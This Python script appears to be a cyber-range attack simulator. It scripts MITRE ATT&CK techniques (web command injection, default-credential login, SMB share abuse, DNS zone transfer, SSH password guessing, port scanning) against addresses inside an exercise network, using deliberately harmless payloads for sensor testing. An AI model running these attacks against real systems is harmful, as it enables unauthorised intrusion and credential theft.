#!/usr/bin/python3
"""Scripted, harmless attacks: each shows one technique of MITRE ATT&CK, and bears an id that sensors see.

    range-attack ACTION ADDRESS [--id ID]     does it, and prints what it did as JSON
    range-attack --list                       prints the actions

An address outside the exercise's supernet is refused. Nothing that is done changes what a target is: a file that is
planted says what it is, and a command that is smuggled in only prints the id.
"""

from __future__ import annotations

import argparse
import base64
import http.client
import json
import os
import re
import secrets
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from ipaddress import AddressValueError, IPv4Address, IPv4Network
from pathlib import Path
from urllib.parse import quote

SETTINGS = Path("/etc/range-attack.json")
TIMEOUT_S = 8
PASSWORDS = ("123456", "password", "letmein", "operator", "Summer2025", "Winter2024!")
SCANNED = (21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 993, 1433, 1521, 2049, 3306, 3389, 5432)


class Refused(Exception):
    """This will not be done."""


@dataclass(frozen=True)
class Action:
    """One attack: its technique, and what it does to an address; the answer says whether the target was weak."""

    technique: str
    help: str
    run: Callable[[str, str], bool]


def _get(address: str, path: str, mark: str, headers: dict[str, str] | None = None) -> tuple[int, str]:
    """Fetch a page; the id goes along as a header and as the browser's name."""
    connection = http.client.HTTPConnection(address, 80, timeout=TIMEOUT_S)
    try:
        marked = {"User-Agent": f"range-attack/{mark}", "X-Range-Action": mark, **(headers or {})}
        connection.request("GET", path, headers=marked)
        answer = connection.getresponse()
        return answer.status, answer.read(65536).decode(errors="replace")
    finally:
        connection.close()


def _command_injection(address: str, mark: str) -> bool:
    status, page = _get(address, f"/diagnostics?host={quote(f';echo $((20+22))-{mark}')}", mark)
    return status == 200 and f"42-{mark}" in page


def _default_credentials(address: str, mark: str) -> bool:
    code = base64.b64encode(b"admin:admin").decode()
    return _get(address, "/admin", mark, {"Authorization": f"Basic {code}"})[0] == 200


def _exposed_backup(address: str, mark: str) -> bool:
    status, page = _get(address, "/backup/portal.conf.bak", mark)
    return status == 200 and "password" in page


def _run(*command: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        command,
        env={**os.environ, **(env or {})},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )


def _list_shares(address: str, mark: str) -> bool:
    """The id goes along as the name of a user whom nobody knows, who is taken for a guest."""
    listed = _run("smbclient", "-g", "-L", address, "-U", f"{mark}%", "-t", str(TIMEOUT_S))
    return "Disk|" in listed.stdout


def _share(address: str, share: str, mark: str, *commands: str) -> bool:
    done = _run("smbclient", f"//{address}/{share}", "-U", f"{mark}%", "-t", str(TIMEOUT_S), "-c", "; ".join(commands))
    return done.returncode == 0


def _plant_file(address: str, mark: str) -> bool:
    with tempfile.NamedTemporaryFile("w", suffix=".txt") as note:
        note.write(f"Planted by red in the exercise, id {mark}. Harmless.\n")
        note.flush()
        return _share(address, "incoming", mark, f"put {note.name} {mark}.txt")


def _read_passwords(address: str, mark: str) -> bool:
    """Asking for a file of the id's name leaves the id in what the sensor sees."""
    _share(address, "office", mark, f"get {mark}.txt {os.devnull}")
    return _share(address, "office", mark, f"get passwords.txt {os.devnull}")


def _dig(address: str, *question: str) -> str:
    return _run("dig", f"@{address}", "+tries=1", f"+time={TIMEOUT_S}", *question).stdout


def _transfer_zone(address: str, mark: str) -> bool:
    _dig(address, f"{mark}.corp.example", "A")
    return "SOA" in _dig(address, "corp.example", "AXFR", "+noall", "+answer")


def _ask_version(address: str, mark: str) -> bool:
    _dig(address, f"{mark}.corp.example", "A")
    return bool(_dig(address, "version.bind", "CH", "TXT", "+short").strip(' \n"'))


def _resolve_for_strangers(address: str, mark: str) -> bool:
    flags = _dig(address, f"{mark}.amplify.example", "A", "+time=20").partition("flags:")[2].partition(";")[0]
    return "ra" in flags.split()  # also where the name can't be found: it was sought


def _guess_passwords(address: str, mark: str) -> bool:
    """The id goes along as the name of the client's software; then passwords are tried, one connection each."""
    with socket.create_connection((address, 22), timeout=TIMEOUT_S) as probe:
        probe.sendall(f"SSH-2.0-range-attack_{mark}\r\n".encode())
        probe.recv(256)
    return any(_opens(address, password) for password in PASSWORDS)


def _opens(address: str, password: str) -> bool:
    with tempfile.TemporaryDirectory() as folder:
        asked = Path(folder, "askpass")
        asked.write_text('#!/bin/sh\necho "$RANGE_GUESS"\n', encoding="utf-8")
        asked.chmod(0o700)
        options = {
            "StrictHostKeyChecking": "no",
            "UserKnownHostsFile": os.devnull,
            "PubkeyAuthentication": "no",
            "NumberOfPasswordPrompts": "1",
            "ConnectTimeout": str(TIMEOUT_S),
        }
        told = [f"-o{name}={value}" for name, value in options.items()]
        env = {"SSH_ASKPASS": str(asked), "SSH_ASKPASS_REQUIRE": "force", "RANGE_GUESS": password}
        return _run("ssh", *told, f"operator@{address}", "true", env=env).returncode == 0


def _scan_ports(address: str, mark: str) -> bool:
    """The id goes to the web server, if there is one."""
    opened = []
    for port in (*SCANNED, *SCANNED):
        with socket.socket() as probe:
            probe.settimeout(0.2)
            if probe.connect_ex((address, port)) == 0:
                opened.append(port)
    if 80 in opened:
        _get(address, "/", mark)
    return bool(opened)


ACTIONS = {
    "web-command-injection": Action("T1190", "Smuggle a command into the web form.", _command_injection),
    "web-default-credentials": Action("T1078.001", "Log in with the default password.", _default_credentials),
    "web-exposed-backup": Action("T1552.001", "Fetch a forgotten backup.", _exposed_backup),
    "files-list-shares": Action("T1135", "List the shares without a password.", _list_shares),
    "files-plant-file": Action("T1080", "Put a file into the share that all may write to.", _plant_file),
    "files-read-passwords": Action("T1552.001", "Read the file of passwords.", _read_passwords),
    "dns-zone-transfer": Action("T1590.002", "Transfer the whole zone.", _transfer_zone),
    "dns-version": Action("T1592.002", "Ask for the name server's version.", _ask_version),
    "dns-open-resolver": Action("T1498.002", "Have a foreign name resolved.", _resolve_for_strangers),
    "shell-guess-passwords": Action("T1110.001", "Guess a password over SSH.", _guess_passwords),
    "scan-ports": Action("T1046", "Try which ports are open.", _scan_ports),
}


def permitted(text: str, supernet: IPv4Network) -> str:
    """Give an address that may be attacked.

    Raises:
        Refused: it isn't one, or isn't in the exercise.
    """
    try:
        address = IPv4Address(text)
    except AddressValueError as error:
        raise Refused(f"{text} is no address") from error
    if address not in supernet:
        raise Refused(f"{address} is outside the exercise, which is {supernet}")
    return str(address)


def main() -> int:
    """Do what was asked for; 0 whether or not the target was weak, 1 where it could not be done, 2 where it was refused."""
    parser = argparse.ArgumentParser(prog="range-attack", description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("action", nargs="?", choices=sorted(ACTIONS), metavar="ACTION")
    parser.add_argument("address", nargs="?", metavar="ADDRESS")
    parser.add_argument(
        "--id", default=None, help="4 to 12 letters and digits that sensors will see; made up if left out"
    )
    parser.add_argument("--list", action="store_true", help="print the actions")
    asked = parser.parse_args()
    if asked.list or not asked.action or not asked.address:
        print(json.dumps({name: {"technique": a.technique, "help": a.help} for name, a in ACTIONS.items()}, indent=2))
        return 0 if asked.list else 2
    mark = asked.id or secrets.token_hex(5)
    try:
        if not re.fullmatch(r"[a-z0-9]{4,12}", mark):
            raise Refused(f"{mark!r} is no id: 4 to 12 lower-case letters and digits")
        supernet = IPv4Network(json.loads(SETTINGS.read_text(encoding="utf-8"))["supernet"])
        address = permitted(asked.address, supernet)
    except (Refused, OSError, ValueError, KeyError) as refusal:
        print(f"range-attack: refused: {refusal}", file=sys.stderr)
        return 2
    action = ACTIONS[asked.action]
    told = {"action": asked.action, "technique": action.technique, "address": address, "id": mark}
    try:
        weak = action.run(address, mark)
    except (OSError, http.client.HTTPException, subprocess.TimeoutExpired) as error:
        print(json.dumps({**told, "error": str(error)}))
        return 1
    print(json.dumps({**told, "weak": weak}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
